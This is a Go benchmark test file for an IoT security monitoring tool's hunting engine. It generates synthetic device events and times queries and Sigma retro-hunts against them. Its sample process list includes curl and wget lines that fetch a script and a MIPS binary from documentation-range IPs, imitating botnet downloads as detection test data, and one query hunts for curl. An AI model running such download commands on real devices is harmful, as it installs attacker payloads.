package hunt

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/store/sqlite"
)

// benchStore returns a SQLite store holding VIGIL_HUNT_BENCH_EVENTS
// events (default 200,000), sealed. With VIGIL_HUNT_BENCH_DB the file is
// kept there and reused by the next run (filling it once at 10 million
// takes minutes).
func benchStore(b *testing.B) *sqlite.Store {
	n := 200000
	if v := os.Getenv("VIGIL_HUNT_BENCH_EVENTS"); v != "" {
		var err error
		if n, err = strconv.Atoi(v); err != nil {
			b.Fatal(err)
		}
	}
	path := os.Getenv("VIGIL_HUNT_BENCH_DB")
	if path == "" {
		path = filepath.Join(b.TempDir(), "vigil.db")
	}
	s, err := sqlite.Open(path, sqlite.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close() })
	ctx := context.Background()
	have, err := s.CountEvents(ctx)
	if err != nil {
		b.Fatal(err)
	}
	start := time.Now()
	for i := int(have); i < n; i += 8192 {
		if err := s.PutEvents(ctx, benchEvents(i, min(8192, n-i))); err != nil {
			b.Fatal(err)
		}
	}
	if int(have) < n {
		b.Logf("stored %d events in %s", n-int(have), time.Since(start).Round(time.Second))
	}
	start = time.Now()
	max, _ := s.MaxEventSeq(ctx)
	segs, err := Seal(ctx, s, max)
	if err != nil {
		b.Fatal(err)
	}
	if segs > 0 {
		b.Logf("sealed %d segments in %s", segs, time.Since(start).Round(time.Second))
	}
	start = time.Now()
	if segs, err = Upgrade(ctx, s); err != nil {
		b.Fatal(err)
	} else if segs > 0 {
		b.Logf("sealed %d old segments again in %s", segs, time.Since(start).Round(time.Second))
	}
	return s
}

var benchCmds = []string{"/usr/sbin/sshd -D", "/bin/busybox telnetd", "curl -s http://203.0.113.7/x.sh", "python3 /opt/app/main.py",
	"/usr/bin/mosquitto -c /etc/mosquitto.conf", "wget http://198.51.100.4/bins/mips", "nginx: worker process"}

// benchEvents makes n events of a fleet of 2,000 devices from number i
// on: processes, logins, connections and health samples, about 10 fields
// each.
func benchEvents(i, n int) []vigil.Event {
	r := rand.New(rand.NewPCG(uint64(i), 2))
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	out := make([]vigil.Event, n)
	for j := range out {
		k := i + j
		e := vigil.Event{ID: fmt.Sprintf("b%09d", k), Time: t0.Add(time.Duration(k) * 50 * time.Millisecond), DeviceID: fmt.Sprintf("dev-%04d", r.IntN(2000)),
			Source: "agent", Fields: map[string]any{"host.name": "h", "agent.version": "1.4.2"}}
		switch r.IntN(4) {
		case 0:
			e.Kind, e.Category, e.Action = vigil.KindProcess, "process", "exec"
			e.Fields["process.command_line"] = benchCmds[r.IntN(len(benchCmds))] + " " + strconv.Itoa(r.IntN(1000))
			e.Fields["process.pid"] = float64(r.IntN(30000))
			e.Fields["process.name"] = "p" + strconv.Itoa(r.IntN(50))
			e.Fields["user.name"] = []string{"root", "pi", "admin"}[r.IntN(3)]
		case 1:
			e.Kind, e.Category, e.Action = vigil.KindAuth, "authentication", "login"
			e.Outcome = []string{vigil.OutcomeSuccess, vigil.OutcomeFailure}[r.IntN(2)]
			e.Fields["user.name"] = []string{"root", "pi", "admin", "support", "guest"}[r.IntN(5)]
			e.Network = &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{10, byte(r.IntN(4)), byte(r.IntN(256)), byte(r.IntN(256))}), DstPort: 22}
		case 2:
			e.Kind, e.Category, e.Action = vigil.KindNetwork, "network", "connect"
			e.Network = &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{192, 168, 1, byte(r.IntN(256))}), SrcPort: uint16(30000 + r.IntN(30000)),
				DstIP: netip.AddrFrom4([4]byte{byte(r.IntN(224)), byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256))}), DstPort: uint16([]int{443, 1883, 8883, 80, 23}[r.IntN(5)])}
		default:
			e.Kind, e.Action = vigil.KindHealth, "sample"
			e.Fields["host.cpu.pct"] = float64(r.IntN(100))
			e.Fields["host.mem.pct"] = float64(r.IntN(100))
			e.Fields["host.temp.c"] = float64(30 + r.IntN(50))
		}
		out[j] = e
	}
	return out
}

// BenchmarkHuntCountByDevice: one predicate on a field, count by device,
// over every stored event (see docs/benchmarks.md, "Hunting").
func BenchmarkHuntCountByDevice(b *testing.B) {
	s := benchStore(b)
	for _, qs := range []string{
		`process.command_line="*curl*" | stats count by device.id`,
		`source.ip=10.1.0.0/16 | stats count by device.id`,
		`host.temp.c>70 | stats count by device.id`,
	} {
		b.Run(qs, func(b *testing.B) {
			q, err := Parse(qs, time.Now())
			if err != nil {
				b.Fatal(err)
			}
			var res *Result
			cpu0 := cpuTime()
			for b.Loop() {
				if res, err = Run(context.Background(), s, q, Options{Limit: MaxLimit}); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric((cpuTime()-cpu0).Seconds()/float64(b.N), "cpu-s/op")
			b.ReportMetric(float64(res.Scanned), "events")
			b.ReportMetric(float64(res.Matched), "matched")
		})
	}
}

// BenchmarkRetroHuntPack: a retro-hunt of the whole built-in Sigma pack
// over every stored event (see docs/benchmarks.md, "Hunting").
func BenchmarkRetroHuntPack(b *testing.B) {
	s := benchStore(b)
	rs := builtinPack(b)
	var job RetroJob
	cpu0 := cpuTime()
	for b.Loop() {
		// Alerts are counted, not kept: the server publishes and drops them.
		r := &Retro{Src: s, Store: s, Publish: func(context.Context, []vigil.Alert) error { return nil }}
		id, err := r.Start(context.Background(), RetroSpec{Rules: rs, RulesName: "builtin"})
		if err != nil {
			b.Fatal(err)
		}
		r.Wait()
		if job, err = r.Job(context.Background(), id); err != nil || job.State != "done" {
			b.Fatalf("job %+v, %v", job, err)
		}
	}
	b.ReportMetric((cpuTime()-cpu0).Seconds()/float64(b.N), "cpu-s/op")
	b.ReportMetric(float64(job.Scanned), "events")
	b.ReportMetric(float64(job.Alerts), "alerts")
}

// cpuTime is the process's CPU time (user and system): on a machine
// shared with other work, CPU per operation says more than wall time.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
